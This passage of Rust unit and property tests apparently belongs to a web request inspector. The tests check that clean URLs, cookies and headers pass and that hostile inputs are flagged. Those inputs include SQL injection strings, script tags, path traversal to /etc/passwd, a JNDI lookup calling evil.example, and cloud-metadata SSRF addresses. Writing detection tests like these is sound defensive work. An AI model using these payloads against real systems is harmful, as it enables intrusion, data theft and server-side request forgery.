        for s in [
            "https://shop.example.com/products?id=4711&ref=home",
            "http://cdn.example.com/script.js#top",
            "https://user@example.com:8443/a/b,c?x=1",
        ] {
            assert!(plain(s, Encoding::Plain), "{s}");
        }
        for (s, encoding) in [
            ("https://x.example/?id=1' or '1'='1", Encoding::Plain),
            ("https://x.example/?q=<script>", Encoding::Plain),
            ("https://x.example/?a=1;id", Encoding::Plain),
            ("https://x.example/?a=1%27", Encoding::Plain),
            ("https://x.example/../../etc/passwd", Encoding::Plain),
            ("https://x.example/.git/config", Encoding::Plain),
            ("https://x.example/?a=&#60;script", Encoding::Plain),
            ("https://x.example/?a=1+or+1=1", Encoding::Form),
            ("https://x.example/?a=${jndi:ldap://e}", Encoding::Plain),
            ("javascript:alert(1)", Encoding::Plain),
        ] {
            assert!(!plain(s, encoding), "{s}");
        }
        // What addresses themselves carry is still read, and a quote still wakes SQL.
        let settings = Settings::default();
        let blocked = |s: &str| {
            let mut i = Inspector::new(&settings, 1 << 20);
            i.json(&serde_json::json!({ "link": s }).to_string());
            i.blocks()
        };
        for s in [
            "http://169.254.169.254/latest/meta-data/",
            "http://127.0.0.1:8080/admin",
            "https://x.example/?id=1' or '1'='1",
        ] {
            assert!(blocked(s), "{s}");
        }
        assert!(!blocked(
            "https://shop.example.com/products?id=4711&ref=home"
        ));
    }

    #[test]
    fn text_bodies_shaped_as_forms_or_json_are_read_as_such() {
        let s = Settings::default();
        // Critical as a form field, only a mention in prose.
        let r = report(|i| i.text("test=java.lang.String"), &s);
        assert!(
            r.score >= 5 && r.findings.iter().any(|f| f.location == "form.test"),
            "{r:?}"
        );
        let r = report(|i| i.text(r#"{"user__password__startswith":"a"}"#), &s);
        assert!(r.score >= 5, "{r:?}");
        // Prose with an equals sign is not a form; JSON that failed to parse is read once.
        for body in ["we set x=java.lang.String here", "a = b"] {
            assert!(report(|i| i.text(body), &s).score < 5, "{body}");
        }
        let r = report(|i| i.unparsed("test=java.lang.Runtime"), &s);
        assert!(r.findings.iter().all(|f| f.location == "body"), "{r:?}");
        // Read once: a snippet that is an error in JSON text is not counted twice.
        let snippet = r#"{"note":"run it with bash -c 'make test'"}"#;
        let json = report(
            |i| {
                i.json(snippet);
            },
            &s,
        );
        let text = report(|i| i.text(snippet), &s);
        assert!(
            json.score > 0 && text.score == json.score,
            "{json:?} {text:?}"
        );
    }

    #[test]
    fn session_ids_in_query_strings() {
        let settings = Settings::default();
        let mut i = Inspector::new(&settings, 1 << 16);
        i.params("JSESSIONID=74B0CB414BD77D17&page=2", false);
        let r = i.finish();
        assert!(
            r.score >= 5 && r.findings[0].detector == Detector::Session,
            "{r:?}"
        );
        let mut i = Inspector::new(&settings, 1 << 16);
        i.params(
            "session=7&sessionid_hint=x&jsessionid=&session_id=cs_1&sessionid=1",
            false,
        );
        assert_eq!(i.finish().score, 0, "other names, or no value, pass");
        for q in ["next-auth.session-token=x", "koa:sess=eyJ1", "PHPSESSION=1"] {
            let mut i = Inspector::new(&settings, 1 << 16);
            i.params(q, false);
            assert!(i.finish().score >= 5, "{q}");
        }
    }

    #[test]
    fn clean_values_are_remembered_and_attacks_never() {
        let settings = Settings::default();
        let mut seen = CleanValues::new(2);
        let ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)";
        let attack = "${jndi:ldap://evil.example/a}";
        for _ in 0..2 {
            let mut i = Inspector::new(&settings, 1 << 16).with_clean_values(&mut seen);
            i.header("user-agent", ua);
            i.header("x-note", attack);
            let r = i.finish();
            assert!(r.score >= 5, "an attack is found every time: {r:?}");
        }
        assert_eq!(seen.len(), 1, "only the clean value is remembered");
        // Full: starts over rather than grow.
        let mut i = Inspector::new(&settings, 1 << 16).with_clean_values(&mut seen);
        i.header("a", "x (1)");
        i.header("b", "y (2)");
        let _ = i.finish();
        assert!(seen.len() <= 2);
    }

    #[test]
    fn a_clean_cookie_header_is_remembered_whole_and_an_attack_never() {
        let settings = Settings::default();
        let mut seen = CleanValues::new(64);
        let clean = "session=6f1c2d9e8a7b; theme=dark; consent=analytics%2Cads";
        let attack = "session=6f1c2d9e8a7b; theme=dark' OR '1'='1";
        for _ in 0..2 {
            let mut i = Inspector::new(&settings, 1 << 16).with_clean_values(&mut seen);
            i.cookies(clean);
            i.cookies(attack);
            let r = i.finish();
            assert!(r.score >= 5, "the attack is found every time: {r:?}");
            assert!(
                r.findings.iter().all(|f| f.location == "cookie.theme"),
                "{r:?}"
            );
        }
        let whole = |seen: &CleanValues, h: &str| {
            seen.hashes
                .contains(&seen.key(Place::Cookie, Encoding::Plain, h))
        };
        assert!(whole(&seen, clean));
        assert!(!whole(&seen, attack));
        // A finding below the paranoia level in force is still a finding: not remembered.
        let paranoid = Settings {
            paranoia: 4,
            ..Settings::default()
        };
        let findings = |settings: &Settings, h: &str| {
            let mut i = Inspector::new(settings, 1 << 16);
            i.cookies(h);
            i.finish().findings.len()
        };
        let quiet = ["x=ls 2>&1", "q=select a from b", "x=a>/dev/null", "x=%2527"]
            .into_iter()
            .find(|h| findings(&settings, h) == 0 && findings(&paranoid, h) > 0)
            .expect("a cookie with findings above paranoia 1 only");
        let mut i = Inspector::new(&settings, 1 << 16).with_clean_values(&mut seen);
        i.cookies(quiet);
        assert!(i.finish().findings.is_empty());
        assert!(!whole(&seen, quiet), "{quiet}");
    }

    proptest::proptest! {
        #[test]
        fn never_panics(s in "\\PC{0,300}") {
            let settings = Settings { paranoia: 4, ..Settings::default() };
            let mut i = Inspector::new(&settings, 1 << 16);
            i.params(&s, false);
            i.cookies(&s);
            i.path(&s);
            i.header("x", &s);
            if !i.json(&s) {
                i.text(&s);
            }
            let _ = i.finish();
        }

        /// Any budget, any text (multi-byte characters straddling the budget and the windows).
        #[test]
        fn any_budget_cuts_on_characters(
            s in "(\\PC|é|😀|%){0,200}",
            budget in 0usize..400,
            repeat in 1usize..200,
        ) {
            let settings = Settings::default();
            let mut i = Inspector::new(&settings, budget);
            let long = s.repeat(repeat);
            i.text(&long);
            i.params(&long, true);
            let r = i.finish();
            proptest::prop_assert!(r.inspected <= budget);
        }
    }
}
